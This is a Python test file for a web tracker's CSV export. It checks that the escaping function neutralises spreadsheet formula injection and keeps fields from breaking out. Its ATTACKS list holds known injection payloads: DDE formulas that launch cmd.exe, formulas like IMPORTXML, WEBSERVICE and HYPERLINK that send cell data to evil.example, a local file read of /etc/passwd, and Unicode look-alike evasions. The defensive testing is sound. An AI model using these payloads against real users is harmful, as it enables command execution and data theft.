"""Hits as CSV that a spreadsheet may open, and as lines of JSON."""

import csv
import io
import re
import unicodedata
from itertools import product
from typing import Any

import pytest
from hypothesis import example, given
from hypothesis import strategies as st

from tracker.reading.export_lines import _SUSPECT_IN_CSV, FORMATS, fields_of, lines_of, safe_cell
from tracker.store.exported_hits import FIELDS

ATTACKS = (
    "=1+1",
    "=cmd|'/C calc'!A0",
    "=cmd|' /C notepad'!'A1'",
    '=HYPERLINK("https://evil.example/?x="&A1,"Click")',
    '=IMPORTXML(CONCAT("https://evil.example/?v=",CONCATENATE(A2:E2)),"//a/a10")',
    '=IMPORTFEED("https://evil.example")',
    '=IMPORTHTML("https://evil.example","table",1)',
    '=IMPORTRANGE("https://evil.example","A1:B2")',
    '=IMPORTDATA("https://evil.example")',
    '=IMAGE("https://evil.example/"&B2)',
    '=WEBSERVICE("https://evil.example/"&A1)',
    '=FILTERXML(WEBSERVICE("https://evil.example"),"//x")',
    "='file:///etc/passwd'#$passwd.A1",
    '=DDE("cmd";"/C calc";"__DdeLink_60_870516294")',
    "=rundll32|'URL.dll,OpenURL calc.exe'!A",
    "=MSEXCEL|'\\..\\..\\..\\Windows\\System32\\cmd.exe /c calc.exe'!''",
    "=SUM(1+9)*cmd|' /C calc'!A0",
    "=AND(1=1)",
    "=%0A1+1",
    "==1+1",
    "= 1+1",
    "+1+1",
    "+cmd|'/C calc'!A0",
    "++1",
    "+44 20 7946 0000",
    "-1+1",
    "-2+3+cmd|' /C calc'!A0",
    "--1",
    "-",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "@A1",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    "\r\n=cmd|'/C calc'!A0",
    "\t\t@SUM(1)",
    "\t",
    " =1+1",
    "   +1",
    "\u00a0=1+1",
    "\u3000=1+1",
    "\u2003-1",
    "\u200b=1+1",
    "\u200e=1+1",
    "\u202e=1+1",
    "\u2060=1+1",
    "\ufeff=1+1",
    "\u00ad=1+1",
    "\ufeff\u200b =1+1",
    "\x01=1+1",
    "\x0b=1+1",
    "\x0c@A1",
    "\x1b=1+1",
    "\x7f=1+1",
    "\x85=1+1",
    "\u2028=1+1",
    "\u2029=1+1",
    "\uff1d1+1",
    "\uff0b1+1",
    "\uff0d1+1",
    "\uff20A1",
    "\ufe661+1",
    "\ufe621+1",
    "\ufe631+1",
    "\ufe6bA1",
    "\u22121+1",
    "\u207a1",
    "\u208b1",
)
"""What has been used or recommended against spreadsheets that open other people's CSV, and its look-alikes."""
QUOTES = ('";=1+1;"', '","=1+1', '"\r\n=1+1', '"=1+1"', 'x","=1+1","y', "a,b", 'a"b', "a\r\nb", "a\nb", "a\rb")
"""What tries to leave its field."""
HARMLESS = (
    "https://shop.example/?a=1",
    "/cart",
    '{"a": "=1"}',
    "Mozilla/5.0",
    "1920x1080",
    "2001:db8::1",
    "日本語",
    "",
    "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko)",
    "/a;b=1;c=2",
    "a=1, =2",
    "0",
    "-5",
    "-12.50",
    "12",
)
SEPARATORS = (";", "\t", "|", "\n", "\r\n")
"""What programs take for the end of a cell, besides the comma: Excel the semicolon where the comma is in numbers."""


def row(**columns: Any) -> dict[str, Any]:
    values = dict.fromkeys(FIELDS[2:])
    return {
        **values,
        "tracking_id": "00cc2c7d-7f74-8f7a-836c-a31ef47bda58",
        "created_at": "2026-01-02T03:04:05.000678Z",
        "app_id": "shop",
        **columns,
    }


def unmarked(cell: str) -> str:
    """The value as it was, by the rule of docs/export.md."""
    return re.sub(r"(\A|[;|\x00-\x1f\x7f-\x9f\u2028\u2029])'", r"\1", cell)


def formulas(data: bytes, separator: str) -> list[str]:
    """What a spreadsheet that reads with this separator computes: cells whose first visible character says so."""
    delimiter = separator if separator in (";", "\t", "|") else ";"
    cells = [cell for line in csv.reader(io.StringIO(data.decode(), newline=""), delimiter=delimiter) for cell in line]
    return [cell for cell in cells if first_visible(cell) in tuple("=+-@")]


def first_visible(text: str) -> str:
    letters = (letter for letter in text if not letter.isspace() and unicodedata.category(letter)[0] not in "CZ")
    return unicodedata.normalize("NFKC", next(letters, ""))[:1].replace("\N{MINUS SIGN}", "-")


def as_postgresql_writes(row: dict[str, Any]) -> bytes:
    """The line of a hit in PostgreSQL's CSV; that it is this one shows `tests/integration/test_reading_export.py`."""
    text = io.StringIO(newline="")
    csv.writer(text, lineterminator="\r\n").writerow([*(row.get(name) for name in FIELDS), None])
    return text.getvalue().encode()[:-2] + b"\n"


def as_bytes(*rows: dict[str, Any]) -> bytes:
    beginning, lines = lines_of("csv", FIELDS)
    return beginning + lines([as_postgresql_writes(row) for row in rows])


def as_csv(*rows: dict[str, Any]) -> list[dict[str, str]]:
    return list(csv.DictReader(io.StringIO(as_bytes(*rows).decode(), newline="")))


@pytest.mark.parametrize("attack", ATTACKS)
def test_a_formula_is_a_text_in_every_field(attack: str) -> None:
    names = [name for name in FIELDS[2:] if not name.endswith(("_data", "_params"))]
    [read] = as_csv(row(**dict.fromkeys(names, attack)))
    assert {unmarked(read[name]) for name in names} == {attack}
    assert all(read[name].startswith("'") for name in names)


@pytest.mark.parametrize("attack", ATTACKS)
def test_a_formula_is_a_text_behind_another_separator_too(attack: str) -> None:
    for form, separator in product(("a{}{}", "{}{};", 'a{}"{}', "a{} {}"), SEPARATORS):
        text = form.format(separator, attack)
        assert unmarked(safe_cell(text)) == text
        lines = as_bytes(row(url="/1"), row(url=text, user_agent=text), row(url="/3"))
        assert not formulas(lines, separator), text


@pytest.mark.parametrize(
    ("text", "cell"),
    [
        ("a;=1", "a;'=1"),
        ("a; =1", "a;' =1"),
        ('a;"=1', "a;'\"=1"),
        ("a\t+1", "a\t'+1"),
        ("a\n@b", "a\n'@b"),
        ("a|-1", "a|'-1"),
        ("a;'b", "a;''b"),
        ("Mozilla/5.0 (compatible; Googlebot/2.1; +http://www.google.com/bot.html)",
         "Mozilla/5.0 (compatible; Googlebot/2.1;' +http://www.google.com/bot.html)"),
        ("\t=1", "'\t'=1"),
        ("-5;-5", "'-5;'-5"),
    ],
)  # fmt: skip
def test_a_mark_stands_where_a_formula_could_begin(text: str, cell: str) -> None:
    assert safe_cell(text) == cell


def test_a_text_of_nothing_but_separators_is_marked_in_time_that_grows_with_it() -> None:
    for piece in (";", "\t", "; ", ';"', ";'", ";="):
        text = piece * 50_000
        assert unmarked(safe_cell(text)) == text


@pytest.mark.parametrize("text", QUOTES)
def test_nothing_leaves_its_field(text: str) -> None:
    before, read, after = as_csv(row(url="/1"), row(url=text, referrer="/2"), row(url="/3"))
    assert (read["url"], read["referrer"]) == (safe_cell(text), "/2")
    assert (before["url"], after["url"]) == ("/1", "/3")


@pytest.mark.parametrize("text", HARMLESS)
def test_what_is_harmless_stays_as_it_is(text: str) -> None:
    assert safe_cell(text) == text


@given(
    st.text(alphabet=st.characters(exclude_categories=["Cs"], exclude_characters="\x00"))
    | st.text(alphabet="=+-@;|\t\n\r\"' a1,\u200b\x85")
)
def test_every_text_comes_back_and_none_begins_like_a_formula(text: str) -> None:
    [read] = as_csv(row(user_agent=text))
    cell = read["user_agent"]
    assert unmarked(cell) == text
    # A number stays as it is, also one with a sign.
    visible = [
        letter
        for letter in cell
        if not re.fullmatch(r"-?\d+(\.\d+)?", cell)
        and not letter.isspace()
        and unicodedata.category(letter)[0] not in "CZ"
    ]
    assert not visible or unicodedata.normalize("NFKC", visible[0])[0] not in "=+-@"


WHOLE = {
    name: st.none() | st.text(st.characters(exclude_categories=["Cs"], exclude_characters="\x00")) for name in FIELDS
}
TRICKY = {name: st.none() | st.text("=+-@;|\t\n\r\"' ,:[]{}a1\u200b\x85\u2028é", max_size=8) for name in FIELDS}


@given(st.lists(st.fixed_dictionaries(WHOLE) | st.fixed_dictionaries(TRICKY), max_size=4))
@example(
    [
        row(url='" =1'),
        row(url='; "=1'),
        row(url="a, =1"),
        row(url="  =1"),
        row(url=" "),
        row(custom_params=" "),
        row(url="\u2028=1"),
        row(url="\x85=1"),
    ]
)
@example([row(event_data='{"a": ";=1"}', custom_params="x" * 200_000 + ";=1")])
@example([row(custom_params=";"), row(tracking_id=None)])
def test_one_look_over_all_lines_finds_what_a_look_at_each_cell_would(rows: list[dict[str, Any]]) -> None:
    rows = [{**row, "tracking_id": None, "created_at": "2026-01-02T03:04:05Z"} for row in rows]
    expected = io.StringIO(newline="")
    cells = [[row["tracking_id"], row["created_at"], *(safe_cell(row[n] or "") for n in FIELDS[2:])] for row in rows]
    csv.writer(expected, lineterminator="\r\n").writerows(cells)
    assert as_bytes(*rows).partition(b"\r\n")[2].decode() == expected.getvalue()


@pytest.mark.parametrize("format_", FORMATS)
def test_custom_parameters_may_be_left_out(format_: Any) -> None:
    beginning, _ = lines_of(format_, fields_of(with_params=False))
    assert b"custom_params" not in beginning


def test_the_usual_lines_are_not_looked_at_again() -> None:
    agent = "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/131.0.0.0"
    usual = row(url="/a,b?c=1", user_agent=agent, ip_address="2001:db8::1", custom_params='{"a": 1, "b": [1, "x"]}')
    assert _SUSPECT_IN_CSV(b"".join([as_postgresql_writes(usual)] * 2)) is None
